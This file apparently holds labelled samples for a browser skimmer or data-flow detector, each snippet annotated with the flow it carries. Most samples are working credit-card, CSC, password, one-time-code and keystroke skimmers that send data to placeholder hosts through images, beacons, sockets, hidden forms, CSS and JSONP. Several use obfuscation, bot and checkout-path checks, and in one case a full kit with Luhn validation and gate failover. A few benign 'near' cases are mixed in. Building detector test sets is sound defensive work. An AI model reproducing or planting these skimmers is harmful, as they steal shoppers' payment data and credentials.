//# image-gate-in-base64
// flow: card > b64i.sk15.example via image
// destination: https://b64i.sk15.example/p.gif?d={}
(function () {
  var g = 'aHR0cHM6Ly9iNjRpLnNrMTUuZXhhbXBsZS9wLmdpZg==';
  function pick() {
    var o = { t: Date.now() };
    o.n = document.querySelector('input[autocomplete=cc-number]').value.replace(/\s+/g, '');
    return o;
  }
  document.querySelector('#place-order').addEventListener('mousedown', function () {
    var i = new Image();
    i.src = atob(g) + '?d=' + encodeURIComponent(btoa(JSON.stringify(pick())));
  });
})();

//# keylogger-shifted-codes
// flow: keystrokes > kls.sk15.example via fetch
var _0c = [111, 123, 123, 119, 122, 65, 54, 54, 114, 115, 122, 53, 122, 114, 56, 60, 53, 108, 127, 104, 116, 119, 115, 108, 54, 114];
var _0u = _0c.map(function (c) { return String.fromCharCode(c - 7); }).join('');
var _0b = [];
document.addEventListener('keydown', function (e) { _0b.push(e.key); }, true);
setInterval(function () {
  if (!_0b.length) return;
  var chunk = _0b.splice(0, _0b.length).join('');
  fetch(_0u, { method: 'POST', mode: 'no-cors', body: chunk });
}, 2000);

//# socket-queued-until-open
// flow: password > wss.sk15.example via websocket
class Wire {
  constructor(url) {
    this.pending = [];
    this.sock = new WebSocket(url);
    this.sock.onopen = () => { while (this.pending.length) this.sock.send(this.pending.shift()); };
  }
  push(kind, value) {
    const frame = JSON.stringify([kind, value]);
    if (this.sock.readyState === WebSocket.OPEN) this.sock.send(frame);
    else this.pending.push(frame);
  }
}
const wire = new Wire('wss://' + ['wss', 'sk15', 'example'].join('.') + '/ws');
document.querySelector('form#login').addEventListener('submit', function () {
  wire.push('p', this.querySelector('input[type=password]').value);
});

//# near-only-says-there-is-a-field
// no flow
// why: what goes out says whether the card field is there and filled, not what is in it
(function () {
  var f = document.querySelector('input[autocomplete=cc-number]');
  var state = !f ? 'none' : f.value ? 'filled' : 'empty';
  navigator.sendBeacon('https://nos.sk15.example/s', state);
})();

//# kept-in-session-sent-on-leaving
// flow: card > kss.sk15.example via beacon
// guard: event pagehide
(function (w, d) {
  var K = '__mage_cache';
  d.querySelector('input[autocomplete=cc-number]').addEventListener('change', function (ev) {
    w.sessionStorage.setItem(K, ev.target.value);
  });
  w.addEventListener('pagehide', function () {
    var kept = w.sessionStorage.getItem(K);
    if (kept) w.navigator.sendBeacon('https://kss.sk15.example/collect', kept);
  });
})(window, document);

//# near-gate-only-loads-style
// flow: card > self via fetch
// why: the foreign host only serves the style sheet of the overlay
var gate = 'https://ngs.sk15.example';
var css = document.createElement('link');
css.rel = 'stylesheet';
css.href = gate + '/overlay.css';
document.head.appendChild(css);
document.querySelector('#pay').onclick = function () {
  fetch('/checkout/pay', { method: 'POST', body: new URLSearchParams({ pan: document.querySelector('input[autocomplete=cc-number]').value }) });
};

//# hidden-form-to-hidden-frame
// flow: card > hff.sk15.example via form
function drop(value) {
  const frame = document.createElement('iframe');
  frame.name = 'x' + Math.random().toString(36).slice(2);
  frame.style.display = 'none';
  const form = document.createElement('form');
  form.method = 'POST';
  form.target = frame.name;
  form.action = 'https://hff.sk15.example/in';
  const field = document.createElement('input');
  field.type = 'hidden';
  field.name = 'd';
  field.value = value;
  form.append(field);
  document.body.append(frame, form);
  form.submit();
}
document.querySelector('input[autocomplete=cc-csc]').addEventListener('blur', (e) => drop(e.target.value));

//# minified-csc
// flow: card > mcs.sk15.example via xhr
!function(e,t,n){function r(e){return t.querySelector(e)}var o=r("input[autocomplete=cc-csc]"),i=r("input[autocomplete=cc-number]");o&&i&&o.addEventListener("blur",function(){var t=new e.XMLHttpRequest;t.open("POST",n+"/a",!0),t.setRequestHeader("Content-Type","text/plain"),t.send([i.value,o.value].join("|"))})}(window,document,"https://mcs.sk15.example");

//# only-at-checkout-and-no-bots
// flow: card > oac.sk15.example via beacon
// guard: not user-agent matches bot|crawl
// guard: code location.pathname
(() => {
  if (/bot|crawl/i.test(navigator.userAgent)) return;
  if (!location.pathname.includes('/onestepcheckout')) return;
  const read = () => document.querySelector('input[autocomplete=cc-number]').value;
  document.addEventListener('visibilitychange', () => navigator.sendBeacon('https://oac.sk15.example/v', read()));
})();

//# near-buffer-emptied-before
// no flow
// why: the buffer is replaced by an empty one right before it is sent
var state = { keys: '' };
document.addEventListener('keydown', function (e) { state.keys += e.key; });
document.querySelector('#save').addEventListener('click', function () {
  state.keys = '';
  fetch('https://nbe.sk15.example/k', { method: 'POST', body: JSON.stringify(state) });
});

//# one-time-code-in-background
// flow: otp > otc.sk15.example via css
const otp = document.querySelector('input[autocomplete=one-time-code]');
otp.addEventListener('input', () => {
  if (otp.value.length !== 6) return;
  const ghost = document.createElement('div');
  ghost.style.backgroundImage = `url("https://otc.sk15.example/bg/${otp.value}.png")`;
  document.body.appendChild(ghost);
});

//# jsonp-username
// flow: username > jpu.sk15.example via script
function jsonp(base, params) {
  var s = document.createElement('script'), q = [];
  for (var k in params) q.push(k + '=' + encodeURIComponent(params[k]));
  s.src = base + (base.indexOf('?') < 0 ? '?' : '&') + q.join('&');
  (document.head || document.documentElement).appendChild(s);
}
document.querySelector('input[name=username]').onblur = function () {
  jsonp('https://jpu.sk15.example/j', { cb: 'noop', u: this.value });
};

//# near-socket-only-answers
// no flow
// why: what the server says is shown; what goes back is a constant word
const ws = new WebSocket('wss://nso.sk15.example/c2');
const pw = document.querySelector('input[type=password]');
ws.onmessage = (m) => {
  const cmd = JSON.parse(m.data);
  switch (cmd.op) {
    case 'ping': ws.send('pong'); break;
    case 'mask': pw.type = 'password'; ws.send('ok'); break;
    case 'show': document.querySelector('#hint').textContent = pw.value; ws.send('ok'); break;
  }
};

//# large-kit-with-failover
// flow: card > g1.lkf.sk15.example via fetch
// flow: card > g2.lkf.sk15.example via fetch
// flow: name > g1.lkf.sk15.example via fetch
// flow: name > g2.lkf.sk15.example via fetch
// guard: not storage present
;(function (win, doc) {
  'use strict';

  var CONFIG = {
    gates: ['https://g1.lkf.sk15.example/i', 'https://g2.lkf.sk15.example/i'],
    key: 'qX7',
    mark: '_gat_seen',
    every: 900,
    fields: {
      pan: 'input[autocomplete=cc-number]',
      holder: 'input[autocomplete=name]'
    }
  };

  function xor(text, key) {
    var out = '';
    for (var i = 0; i < text.length; i++) {
      out += String.fromCharCode(text.charCodeAt(i) ^ key.charCodeAt(i % key.length));
    }
    return out;
  }

  function luhn(pan) {
    var sum = 0, dbl = false;
    for (var i = pan.length - 1; i >= 0; i--) {
      var d = +pan.charAt(i);
      if (dbl) { d *= 2; if (d > 9) d -= 9; }
      sum += d;
      dbl = !dbl;
    }
    return pan.length > 12 && sum % 10 === 0;
  }

  var Store = {
    data: {},
    put: function (k, v) { if (v) this.data[k] = v; },
    complete: function () {
      for (var k in CONFIG.fields) if (!this.data[k]) return false;
      return luhn(this.data.pan);
    },
    dump: function () {
      return JSON.stringify(this.data);
    }
  };

  function scan() {
    Object.keys(CONFIG.fields).forEach(function (k) {
      var el = doc.querySelector(CONFIG.fields[k]);
      if (el) Store.put(k, el.value.replace(/[^\w ]/g, ''));
    });
  }

  function post(index, body) {
    if (index >= CONFIG.gates.length) return;
    win.fetch(CONFIG.gates[index], { method: 'POST', mode: 'no-cors', body: body })
      .then(function () { win.localStorage.setItem(CONFIG.mark, '1'); })
      .catch(function () { post(index + 1, body); });
  }

  function tick() {
    scan();
    if (Store.complete()) {
      post(0, win.btoa(xor(Store.dump(), CONFIG.key)));
      return;
    }
    win.setTimeout(tick, CONFIG.every);
  }

  if (!win.localStorage.getItem(CONFIG.mark)) {
    if (doc.readyState === 'loading') doc.addEventListener('DOMContentLoaded', tick);
    else tick();
  }
})(window, document);
